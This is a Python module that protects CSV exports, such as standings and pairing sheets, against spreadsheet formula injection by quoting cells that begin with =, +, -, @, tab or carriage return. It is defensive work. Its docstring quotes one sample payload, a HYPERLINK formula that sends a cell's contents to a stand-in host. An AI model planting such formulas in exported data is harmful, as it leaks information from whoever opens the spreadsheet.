"""CSV text that a spreadsheet opens as data, never as formulas (every CSV compcore writes).

A player named ``=HYPERLINK("http://host/?"&A1, "klik")`` or ``@SUM(...)`` would run as a
formula when the director opens the standings or the pairing sheet in a spreadsheet. OWASP's
advice ("CSV Injection"): a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a single quote in front, which spreadsheets show as text. Plain numbers
("-1", "+2", "12.5") are left as they are: they are no formula and must stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

#: What makes a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")


def neutral_cell(value: object) -> str:
    """``value`` as a cell's text, with a leading ``'`` when a spreadsheet would otherwise
    read it as a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(text):
        return "'" + text
    return text


def csv_text(rows: Iterable[Sequence[object]]) -> str:
    """The rows as CSV (comma-separated, ``\\n`` line ends), every cell :func:`neutral_cell`.

    The csv module quotes a cell holding the line end ``\\n`` but not a lone ``\\r``, which
    readers take as a line end too: a row with either is written with every cell quoted."""
    buf = io.StringIO()
    plain = csv.writer(buf, lineterminator="\n")
    quoted = csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for row in rows:
        cells = [neutral_cell(cell) for cell in row]
        (quoted if any("\r" in c or "\n" in c for c in cells) else plain).writerow(cells)
    return buf.getvalue()
